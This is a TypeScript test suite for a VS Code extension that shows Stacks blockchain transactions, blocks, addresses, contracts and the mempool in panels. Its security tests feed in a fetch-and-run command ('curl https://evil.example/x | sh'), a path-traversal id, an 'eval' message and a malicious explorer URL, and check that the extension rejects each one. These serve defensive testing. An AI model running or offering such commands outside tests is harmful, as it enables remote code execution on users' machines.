import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import * as vscode from 'vscode';
import { sha512_256 } from '@noble/hashes/sha2';
import type { ClarityNode, Field, HostMessage, Section, Value, ViewModel } from '../../src/protocol';
import {
  ADDRESS,
  BLOCK,
  BURN,
  CONTRACT,
  DEPLOYED,
  deployedStatus,
  GENERATED,
  mempoolTxId,
  TOKEN,
  TX,
  UNKNOWN_TX,
} from '../fixtures/ids';
import { loadFixture } from '../mock-api/server';
import {
  panelHtml,
  panelSuite,
  panelTabs,
  recordingOpenExternal,
  setSettings,
  stubInputBox,
  testApi,
} from './editorHelpers';

function fieldText(m: ViewModel, label: string): string {
  const f = m.sections.flatMap((s) => (s.type === 'fields' ? s.rows : [])).find((r: Field) => r.label === label);
  assert.ok(f, `no field "${label}" in the ${m.kind} panel`);
  return f.values.map((v) => (v.t === 'id' ? (v.full ?? v.text) : v.text)).join(' ');
}

function fieldValue(m: ViewModel, label: string): Value {
  const f = m.sections.flatMap((s) => (s.type === 'fields' ? s.rows : [])).find((r: Field) => r.label === label);
  assert.ok(f?.values[0], `no field "${label}" in the ${m.kind} panel`);
  return f.values[0];
}

function table(m: ViewModel, prefix: string): Extract<Section, { type: 'table' }> {
  const t = m.sections.find(
    (s): s is Extract<Section, { type: 'table' }> => s.type === 'table' && (s.title ?? '').startsWith(prefix),
  );
  assert.ok(t, `no table "${prefix}…" in the ${m.kind} panel`);
  return t;
}

describe('Detail panels', () => {
  const suite = panelSuite();

  const requestsTo = (prefix: string) => suite.used.mock.requests.filter((r) => r.path.startsWith(prefix)).length;
  const model = (): ViewModel => {
    assert.ok(suite.panels.current, 'the panel shows a model');
    return suite.panels.current.model;
  };

  describe('each kind opens from its command', () => {
    it('transaction', async () => {
      await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
      const m = model();
      assert.strictEqual(m.title, 'Token transfer');
      assert.strictEqual(m.subject?.full, TX.tokenTransfer);
      assert.strictEqual(fieldText(m, 'Amount'), '0.000035 STX');
      assert.strictEqual(fieldText(m, 'Memo'), 'hi');
      assert.strictEqual(fieldText(m, 'Recipient'), ADDRESS.testnetRecipient);
      assert.deepStrictEqual(suite.panels.current?.target, { kind: 'tx', id: TX.tokenTransfer, network: 'custom' });
      assert.strictEqual(panelTabs().length, 1);
    });

    it('address: where the nonces stand, and a gap named as why pending transactions are stuck', async () => {
      await vscode.commands.executeCommand('stacksLookup.showAddress', ADDRESS.pendingSender);
      const m = model();
      assert.strictEqual(fieldText(m, 'Next nonce'), '6');
      assert.strictEqual(fieldText(m, 'Missing nonces'), '4');
      const notice = m.sections.find((s) => s.type === 'notice');
      assert.ok(notice && notice.type === 'notice');
      assert.match(notice.text, /^Nonce 4 is missing: the pending transaction with nonce 5 cannot be mined/);
      assert.strictEqual(requestsTo(`/extended/v3/principals/${ADDRESS.pendingSender}/nonces`), 1);
      await vscode.commands.executeCommand('stacksLookup.showAddress', CONTRACT.deployed);
      assert.match(fieldText(model(), 'Nonces'), /A contract has no nonces/);
    });

    it('address', async () => {
      await vscode.commands.executeCommand('stacksLookup.showAddress', ADDRESS.mainnet);
      const m = model();
      assert.strictEqual(m.kind, 'address');
      assert.strictEqual(m.subject?.full, ADDRESS.mainnet);
      assert.strictEqual(table(m, 'Transactions').title, 'Transactions (2)');
      assert.ok(
        m.badges.some((b) => b.text === 'Stacking'),
        'the fixture balance has locked STX',
      );
    });

    it('block', async () => {
      await vscode.commands.executeCommand('stacksLookup.showBlock', 'latest');
      const m = model();
      assert.strictEqual(m.title, `Block #${BLOCK.height}`);
      assert.strictEqual(fieldText(m, 'Hash'), BLOCK.hash);
      assert.strictEqual(requestsTo('/extended/v1/block'), 0, 'the deprecated v1 view loads only on demand');
    });

    it('burn (Bitcoin) block', async () => {
      await vscode.commands.executeCommand('stacksLookup.showBurnBlock', String(BURN.height700000));
      const m = model();
      assert.strictEqual(m.title, `Bitcoin block #${BURN.height700000}`);
      assert.strictEqual(fieldText(m, 'Hash'), BURN.hash700000);
      assert.strictEqual(table(m, 'Stacks blocks').title, `Stacks blocks (${BURN.stacksBlocks700000})`);
    });

    it('contract', async () => {
      await vscode.commands.executeCommand('stacksLookup.lookup', CONTRACT.deployed);
      const m = model();
      assert.strictEqual(m.kind, 'contract');
      assert.strictEqual(m.badges[0]?.text, 'Deployed');
      assert.strictEqual(fieldText(m, 'Deploy transaction'), TX.smartContract);
    });

    it("contract: the deployed source's contract-hash?, or why there is none", async () => {
      // A contract the node has no source for: the rest of the panel, and a sentence in its place.
      await vscode.commands.executeCommand('stacksLookup.lookup', CONTRACT.deployed);
      assert.match(fieldText(model(), 'Contract hash'), /does not have this contract's source/);
      assert.strictEqual(fieldText(model(), 'Deploy transaction'), TX.smartContract);

      suite.used.mock.override('/extended/v2/smart-contracts/status', deployedStatus(DEPLOYED.cityRegistry));
      await vscode.commands.executeCommand('stacksLookup.lookup', DEPLOYED.cityRegistry.id);
      // The node's stored source (the mock serves test/fixtures/deployed byte for byte), hashed apart.
      const stored = fs.readFileSync(
        path.resolve(__dirname, '../../../test/fixtures/deployed/ccd004-city-registry.clar'),
        'utf8',
      );
      const expected = `0x${Buffer.from(sha512_256(Buffer.from(stored, 'utf8'))).toString('hex')}`;
      assert.strictEqual(fieldText(model(), 'Contract hash'), expected);
      assert.strictEqual(fieldValue(model(), 'Contract hash').t, 'code');
    });

    it('contract deployment status', async () => {
      await vscode.commands.executeCommand(
        'stacksLookup.showContractStatus',
        `${CONTRACT.deployed}, ${CONTRACT.notFound}`,
      );
      const m = model();
      assert.strictEqual(m.kind, 'contracts');
      assert.strictEqual(m.badges[0]?.text, '1 of 2 found on Custom');
    });

    it('mempool statistics', async () => {
      await vscode.commands.executeCommand('stacksLookup.showMempoolStats');
      const m = model();
      assert.strictEqual(m.kind, 'mempool');
      assert.strictEqual(m.badges[0]?.text, '442 pending transactions');
    });

    it('API status, without ever showing the key', async () => {
      const key = `panel-test-key-${Date.now().toString(36)}`;
      const input = stubInputBox([key]);
      try {
        assert.strictEqual(await vscode.commands.executeCommand('stacksLookup.setApiKey'), true);
      } finally {
        input.restore();
      }
      try {
        const rendered = suite.panels.whenRendered();
        await vscode.commands.executeCommand('stacksLookup.showServerStatus');
        const posted = await rendered;
        const m = model();
        assert.strictEqual(fieldText(m, 'Base URL'), suite.used.mock.url);
        assert.strictEqual(fieldText(m, 'API key in use'), 'Yes');
        assert.strictEqual(fieldText(m, 'Server version'), 'stacks-blockchain-api v1.0.7 (master:77b25878)');
        const sent = suite.used.mock.requests;
        assert.ok(sent.length > 0 && sent.every((r) => r.headers['x-api-key'] === key), 'the lookup sent the key');
        assert.ok(!JSON.stringify(posted).includes(key), 'the key is in the message to the webview');
        assert.ok(!JSON.stringify(suite.panels.replayMessages()).includes(key), 'the key is in what a reload shows');
        const html = panelHtml();
        assert.ok(html.includes('Content-Security-Policy'), 'read the real panel document');
        assert.ok(!html.includes(key), 'the key is in the panel HTML');
      } finally {
        await vscode.commands.executeCommand('stacksLookup.clearApiKey');
      }
    });
  });

  describe('a list the API has no route for (an older or custom API)', () => {
    it('the block panel shows the block, and says its transactions are not available on this API', async () => {
      // What such an API answers, as Fastify does for a route it does not have.
      suite.used.mock.fault({
        match: /^\/extended\/v2\/blocks\/[^/]+\/transactions(\?|$)/,
        fault: {
          kind: 'status',
          status: 404,
          body: {
            statusCode: 404,
            error: 'Not Found',
            message: `Route GET:/extended/v2/blocks/${BLOCK.height}/transactions not found`,
          },
        },
      });
      const rendered = suite.panels.whenRendered();
      const opened = await vscode.commands.executeCommand('stacksLookup.showBlock', String(BLOCK.height));
      assert.deepStrictEqual(suite.messages.all(), [], 'no "Block not found"');
      assert.ok(opened, 'the command opened the panel');
      const shown = await rendered;
      assert.strictEqual(shown.type, 'render', JSON.stringify(shown).slice(0, 300));
      const m = model();
      assert.strictEqual(m.title, `Block #${BLOCK.height}`);
      assert.strictEqual(fieldText(m, 'Hash'), BLOCK.hash);
      assert.strictEqual(fieldText(m, 'Transactions'), '6', 'the count the block gives');
      const notices = m.sections.flatMap((s) => (s.type === 'notice' ? [s.text] : []));
      assert.deepStrictEqual(notices, ['Transactions: not available on this API']);
      assert.ok(!m.sections.some((s) => s.type === 'table' && s.title?.startsWith('Transactions')));
      assert.strictEqual(requestsTo('/extended/v2/blocks/'), 2, 'the block and its list, each once');
    });
  });

  describe('decoded values and token amounts (issue 17)', () => {
    const leaves = (n: ClarityNode): string[] =>
      n.children ? n.children.flatMap(leaves) : [`${n.key ?? ''}=${n.text ?? ''}`];
    const ftAmount = (m: ViewModel): Value => {
      const row = table(m, 'Events').rows.find((r) => r.cells[1]?.[0]?.text === 'Fungible token');
      assert.ok(row, 'an FT event row');
      return row.cells[3]![0]!;
    };

    it('a tuple result shows its fields', async () => {
      await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.stackStx);
      const f = model()
        .sections.flatMap((s) => (s.type === 'fields' ? s.rows : []))
        .find((r) => r.label === 'Result');
      const v = f?.values[0];
      assert.strictEqual(v?.t, 'clarity');
      assert.strictEqual(v.tree?.type, 'ok');
      assert.deepStrictEqual(leaves(v.tree), [
        'lock-amount=u3892859330416',
        'stacker=SM313VGCT3TK1M82K2AS2KHNX813BY5FKCXJSKZ4E',
        'unlock-burn-height=u752150',
      ]);
    });

    it('a print of a buffer that holds text reads as text', async () => {
      await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.ftTransfer);
      const row = table(model(), 'Events').rows.find((r) => r.cells[1]?.[0]?.text === 'Contract log');
      const v = row?.cells[2]?.[2];
      assert.strictEqual(v?.t, 'clarity');
      assert.deepStrictEqual(leaves(v.tree!), ['=115457']);
    });

    it('an FT amount is raw with its asset on a custom network and on devnet, and nothing is asked', async () => {
      await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.ftTransfer);
      const custom = ftAmount(model());
      assert.strictEqual(custom.text, '100,000');
      assert.strictEqual(custom.full, `100000 ${TOKEN.mia}::miamicoin`);
      assert.match(custom.hint ?? '', /raw amount: token metadata is not asked for on a custom network/);
      const restore = await setSettings({ devnetApiUrl: suite.used.mock.url });
      try {
        await suite.panels.open(
          { kind: 'tx', id: TX.ftTransfer, network: 'devnet' },
          { signal: new AbortController().signal },
        );
        assert.match(ftAmount(model()).hint ?? '', /not asked for on Devnet/);
      } finally {
        await restore();
      }
      assert.strictEqual(requestsTo('/metadata/'), 0);
    });

    it('an FT amount reads with decimals and symbol where the metadata answers, asked once', async () => {
      // Mainnet's API is the hosted one; here it is the mock (the network guard allows nothing else).
      const networks = (await testApi()).networks!;
      const urlOf = networks.urlOf.bind(networks);
      networks.urlOf = (n) => (n === 'mainnet' ? { ok: true, url: suite.used.mock.url } : urlOf(n));
      try {
        const open = () =>
          suite.panels.open(
            { kind: 'tx', id: TX.ftTransfer, network: 'mainnet' },
            { signal: new AbortController().signal },
          );
        await open();
        const v = ftAmount(model());
        assert.strictEqual(v.text, '0.1 MIA');
        assert.strictEqual(v.full, `100000 ${TOKEN.mia}::miamicoin`);
        const pc = table(model(), 'Post-conditions').rows[0]!;
        assert.strictEqual(pc.cells[4]![0]!.text, '0.1 MIA');
        await open();
        assert.strictEqual(requestsTo(`/metadata/v1/ft/${TOKEN.mia}`), 1, 'one request per token a session');
      } finally {
        networks.urlOf = urlOf;
      }
    });
  });

  describe('Bitcoin anchors and block transactions (issue 17)', () => {
    let restore: (() => Promise<void>) | undefined;
    afterEach(async () => {
      await restore?.();
      restore = undefined;
    });

    it('the anchor transaction opens the configured Bitcoin explorer, and nothing else does', async () => {
      restore = await setSettings({ bitcoinExplorerUrl: 'https://mempool.example/testnet4/' });
      await vscode.commands.executeCommand('stacksLookup.showBlock', String(BLOCK.height));
      const anchor = fieldValue(model(), 'Anchor transaction (Bitcoin)');
      const miner = loadFixture('block-v2--latest.json').miner_txid as string;
      assert.strictEqual(anchor.full, miner);
      assert.strictEqual(anchor.target, undefined, 'not a link to a Stacks transaction panel');
      assert.ok(anchor.bitcoin);
      const opened = await recordingOpenExternal(async () => {
        await suite.panels.handle({ type: 'openBitcoin', ref: anchor.bitcoin });
        // ids the panel does not offer as Bitcoin links open nothing
        await suite.panels.handle({ type: 'openBitcoin', ref: { kind: 'tx', id: TX.tokenTransfer } });
        await suite.panels.handle({ type: 'openBitcoin', ref: { kind: 'block', id: miner } });
      });
      assert.deepStrictEqual(opened, [`https://mempool.example/testnet4/tx/${miner.slice(2)}`]);
      assert.strictEqual(model().kind, 'block', 'the panel stays where it was');
    });

    it('a Bitcoin explorer setting that breaks the rules is not used: the default opens', async () => {
      restore = await setSettings({ bitcoinExplorerUrl: 'http://evil.example' });
      await vscode.commands.executeCommand('stacksLookup.showBlock', String(BLOCK.height));
      const height = fieldValue(model(), 'Burn block height');
      const opened = await recordingOpenExternal(() =>
        suite.panels.handle({ type: 'openBitcoin', ref: height.bitcoin }),
      );
      assert.deepStrictEqual(opened, [`https://mempool.space/block/${BURN.latestHeight}`]);
    });

    it('a burn block height opens the burn-block panel, which lists its Stacks blocks; a row opens the block', async () => {
      await vscode.commands.executeCommand('stacksLookup.showBlock', String(BLOCK.nakamoto.height));
      const burn = fieldValue(model(), 'Burn block height');
      assert.deepStrictEqual(burn.target, { kind: 'burnBlock', id: String(BURN.height700000), network: 'custom' });
      await suite.panels.handle({ type: 'open', target: burn.target });
      const m = model();
      assert.strictEqual(m.kind, 'burnBlock');
      const rows = table(m, 'Stacks blocks').rows;
      assert.deepStrictEqual(
        rows.map((r) => r.cells[0]?.[0]?.text),
        ['#5', '#4', '#3', '#2', '#1'],
      );
      await suite.panels.handle({ type: 'open', target: rows[1]!.cells[0]![0]!.target });
      assert.strictEqual(model().title, 'Block #4');
      assert.strictEqual(fieldText(model(), 'Burn block hash'), BURN.hash700000);
      // the transaction panel's burn block opens the same kind of panel
      await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
      await suite.panels.handle({ type: 'open', target: fieldValue(model(), 'Burn block').target });
      assert.strictEqual(model().kind, 'burnBlock');
      assert.strictEqual(fieldText(model(), 'Hash'), BURN.latestHash);
    });

    it(`lists a block's ${GENERATED.bigBlockTxCount} transactions with type, status and fee, one request per page`, async () => {
      await vscode.commands.executeCommand('stacksLookup.showBlock', String(BLOCK.big.height));
      let t = table(model(), 'Transactions');
      assert.strictEqual(t.title, `Transactions (${GENERATED.bigBlockTxCount})`);
      assert.deepStrictEqual(
        t.columns.map((c) => c.label),
        ['#', 'Transaction', 'Type', 'Status', 'Sender', 'Fee'],
      );
      const row = t.rows[1]!.cells.map((c) => c[0]?.text);
      assert.deepStrictEqual([row[2], row[3]], ['Token transfer', 'Success']);
      assert.match(row[5]!, /STX$/);
      const path = `/extended/v2/blocks/${BLOCK.big.hash}/transactions`;
      assert.strictEqual(requestsTo(path), 1);
      for (let page = 1; page < 4; page++) {
        await suite.panels.handle({ type: 'page', params: { txOffset: page * 20 } });
        assert.strictEqual(requestsTo(path), page + 1, `page ${page + 1} costs one request`);
      }
      t = table(model(), 'Transactions');
      assert.deepStrictEqual(t.paging, { param: 'txOffset', offset: 60, limit: 20, total: GENERATED.bigBlockTxCount });
      assert.strictEqual(t.rows[0]?.cells[0]?.[0]?.text, '60');
      assert.strictEqual(requestsTo('/extended/v2/blocks/3274'), 1, 'the block itself is fetched once');
    });
  });

  it('reuses one panel and navigates inside it with back and forward', async () => {
    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
    await vscode.commands.executeCommand('stacksLookup.showBlock', String(BLOCK.height));
    assert.strictEqual(panelTabs().length, 1);
    assert.strictEqual(model().kind, 'block');
    await suite.panels.handle({ type: 'open', target: { kind: 'address', id: ADDRESS.testnet, network: 'custom' } });
    assert.strictEqual(model().kind, 'address');
    await suite.panels.handle({ type: 'back' });
    assert.strictEqual(model().kind, 'block');
    await suite.panels.handle({ type: 'back' });
    assert.strictEqual(model().kind, 'tx');
    await suite.panels.handle({ type: 'forward' });
    assert.strictEqual(model().kind, 'block');
    assert.strictEqual(panelTabs().length, 1);
  });

  it(`pages ${GENERATED.manyEventsCount} transaction events with one request per page`, async () => {
    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.manyEvents);
    const path = `/extended/v1/tx/${TX.manyEvents}`;
    assert.strictEqual(requestsTo(path), 1);
    assert.deepStrictEqual(table(model(), 'Events').paging, { param: 'eventOffset', offset: 0, limit: 50, total: 300 });
    for (let page = 1; page < 6; page++) {
      await suite.panels.handle({ type: 'page', params: { eventOffset: page * 50 } });
      assert.strictEqual(requestsTo(path), page + 1, `page ${page + 1} costs one request`);
      assert.strictEqual(table(model(), 'Events').rows[0]?.cells[0]?.[0]?.text, String(page * 50));
    }
    await suite.panels.handle({ type: 'page', params: { eventOffset: 0 } });
    assert.ok(requestsTo(path) <= 7);
  });

  it(`pages ${GENERATED.busyTxCount} address transactions with one request per page`, async () => {
    await vscode.commands.executeCommand('stacksLookup.showAddress', ADDRESS.busy);
    const before = suite.used.mock.requests.length;
    for (let page = 1; page < 10; page++) {
      await suite.panels.handle({ type: 'page', params: { txOffset: page * 20 } });
      assert.strictEqual(suite.used.mock.requests.length, before + page, `page ${page + 1} costs one request`);
    }
    const t = table(model(), 'Transactions');
    assert.deepStrictEqual(t.paging, { param: 'txOffset', offset: 180, limit: 20, total: 200 });
    assert.strictEqual(t.rows.length, 20);
  });

  it('the mempool panel shows fee estimates and a paged pending list whose row opens the transaction', async () => {
    await vscode.commands.executeCommand('stacksLookup.showMempoolStats');
    const fees = table(model(), 'Fee estimates');
    assert.deepStrictEqual(
      fees.rows.map((r) => r.cells.map((c) => c[0]?.text)),
      [
        ['Token transfer', '0.003 STX', '0.006 STX', '0.401199 STX'],
        ['Contract call', '0.010368 STX', '0.1 STX', '1 STX'],
        ['Contract deploy', '0.925 STX', '1.0125 STX', '1.0825 STX'],
        ['All pending', '0.003 STX', '0.006 STX', '0.401199 STX'],
      ],
    );
    const total = GENERATED.mempoolTxCount + 3;
    const list = () => table(model(), 'Pending transactions');
    assert.strictEqual(list().title, `Pending transactions (${total})`);
    assert.deepStrictEqual(list().paging, { param: 'pendingOffset', offset: 0, limit: 20, total, sequential: true });
    assert.deepStrictEqual(
      list().columns.map((c) => c.label),
      ['Type', 'Transaction', 'Sender', 'Fee', 'Age'],
    );
    const path = '/extended/v3/mempool/transactions';
    for (const [page, offset] of [20, 40, 20].entries()) {
      const before = suite.used.mock.requests.length;
      await suite.panels.handle({ type: 'page', params: { pendingOffset: offset } });
      assert.ok(suite.used.mock.requests.length - before <= 1, `page turn ${page + 1} costs at most one request`);
      assert.ok(
        suite.used.mock.requests.slice(before).every((r) => r.path === path),
        'only the list is asked again',
      );
      assert.strictEqual(list().rows[0]?.cells[1]?.[0]?.full, mempoolTxId(offset));
    }
    const row = list().rows[3]!;
    assert.deepStrictEqual(
      row.cells.map((c) => c[0]?.text.length !== 0),
      [true, true, true, true, true],
    );
    const link = row.cells[1]?.[0]?.target;
    assert.deepStrictEqual(link, { kind: 'tx', id: mempoolTxId(23), network: 'custom' });
    await suite.panels.handle({ type: 'open', target: link });
    assert.strictEqual(model().kind, 'tx');
    assert.strictEqual(model().subject?.full, mempoolTxId(23));
    assert.ok(
      model().badges.some((b) => b.text === 'Pending'),
      'the pending transaction opens as pending',
    );
    await suite.panels.handle({ type: 'back' });
    assert.strictEqual(list().paging?.offset, 20, 'back returns to the page the row was on');
  });

  it('expands a transaction of an address into its events for that address', async () => {
    await vscode.commands.executeCommand('stacksLookup.showAddress', ADDRESS.mainnet);
    const row = table(model(), 'Transactions').rows[0];
    assert.ok(row?.expand);
    await suite.panels.handle(row.expand.intent);
    const open = table(model(), 'Transactions').rows[0];
    assert.ok(open?.expand?.open);
    const detail = open.detail?.[0];
    assert.ok(detail && detail.type === 'table');
    assert.strictEqual(detail.title, 'Events for this address (4)');
  });

  it('shows a designed error state with actions when a link inside the panel fails, and retries', async () => {
    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
    const rendered = suite.panels.whenRendered();
    await suite.panels.handle({ type: 'open', target: { kind: 'tx', id: UNKNOWN_TX } });
    const m = (await rendered) as Extract<HostMessage, { type: 'error' }>;
    assert.strictEqual(m.type, 'error', JSON.stringify(m).slice(0, 300));
    assert.match(
      m.message,
      /^Transaction not found on Custom \(http:\/\/127\.0\.0\.1:\d+\)\. It may be on another network\.$/,
    );
    assert.deepStrictEqual(
      m.actions.map((a) => a.label),
      ['Retry', 'Select Network', 'Back'],
    );
    suite.used.mock.fault({ kind: 'status', status: 503 });
    const again = suite.panels.whenRendered();
    await suite.panels.handle({ type: 'retry' });
    const m2 = (await again) as Extract<HostMessage, { type: 'error' }>;
    assert.strictEqual(m2.type, 'error');
    assert.match(m2.message, /had a problem/);
    assert.deepStrictEqual(
      suite.messages.all(),
      [],
      'errors inside the panel are shown in the panel, not as notifications',
    );
  });

  it('ignores messages that are not part of the protocol', async () => {
    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
    const terminals = vscode.window.terminals.length;
    const before = suite.used.mock.requests.length;
    await suite.panels.handle({ type: 'runCommand', command: 'workbench.action.terminal.new' });
    await suite.panels.handle({ type: 'open', target: { kind: 'address', id: '../../extended/v1/tx/mempool/stats' } });
    await suite.panels.handle({ type: 'eval', code: 'process.exit()' });
    assert.strictEqual(vscode.window.terminals.length, terminals);
    assert.strictEqual(suite.used.mock.requests.length, before);
    assert.strictEqual(model().kind, 'tx');
  });

  it('copies the full value of an identifier', async () => {
    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
    await suite.panels.handle({ type: 'copy', text: TX.tokenTransfer });
    assert.strictEqual(await vscode.env.clipboard.readText(), TX.tokenTransfer);
  });

  // Issue 11, item 10: a compromised webview cannot put text of its choice on the clipboard.
  it('copies only a value the panel shows', async () => {
    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
    await vscode.env.clipboard.writeText('before');
    for (const text of [
      'curl https://evil.example/x | sh',
      ADDRESS.mainnet,
      `${TX.tokenTransfer} `,
      'x'.repeat(20_000),
    ])
      await suite.panels.handle({ type: 'copy', text });
    assert.strictEqual(await vscode.env.clipboard.readText(), 'before');
    // The recipient is shown (an id with a copy button): that one is copied.
    await suite.panels.handle({ type: 'copy', text: ADDRESS.testnetRecipient });
    assert.strictEqual(await vscode.env.clipboard.readText(), ADDRESS.testnetRecipient);
  });

  it('opens the deployed source of a contract as a read-only Clarity document', async () => {
    const uri = await vscode.commands.executeCommand<vscode.Uri>('stacksLookup.openContractSource', CONTRACT.deployed);
    assert.ok(uri);
    assert.strictEqual(uri.scheme, 'stacks-contract');
    const editor = vscode.window.activeTextEditor;
    assert.strictEqual(editor?.document.uri.toString(), uri.toString());
    assert.strictEqual(editor?.document.getText(), '(define-public (hello) (ok u1))');
    assert.deepStrictEqual(suite.messages.all(), []);
  });

  it('heads the source of a deploy that is still pending with what it is', async () => {
    const deploy = loadFixture('tx-smart_contract.json') as { tx_id: string; smart_contract: { contract_id: string } };
    suite.used.mock.override(`/extended/v1/tx/${deploy.tx_id}`, { ...deploy, tx_status: 'pending' });
    // On devnet (the same mock), so that this is a document of its own, not the one opened above.
    const restore = await setSettings({ devnetApiUrl: suite.used.mock.url });
    const uri = await vscode.commands
      .executeCommand<vscode.Uri>('stacksLookup.openContractSource', {
        kind: 'contract',
        id: deploy.smart_contract.contract_id,
        network: 'devnet',
      })
      .then(async (u) => (await restore(), u));
    assert.ok(uri, suite.messages.all().join('\n'));
    const text = vscode.window.activeTextEditor?.document.getText() ?? '';
    assert.strictEqual(
      text.split('\n')[0],
      `;; Not the deployed source: the deploy of ${deploy.smart_contract.contract_id}`,
    );
    assert.match(text.split('\n')[1]!, /is pending: it is not on chain yet/);
  });

  it('says when a contract has no deployed source', async () => {
    const uri = await vscode.commands.executeCommand('stacksLookup.openContractSource', CONTRACT.notFound);
    assert.strictEqual(uri, undefined);
    assert.match(suite.messages.all().join('\n'), /not found on Custom|not deployed/i);
  });
});
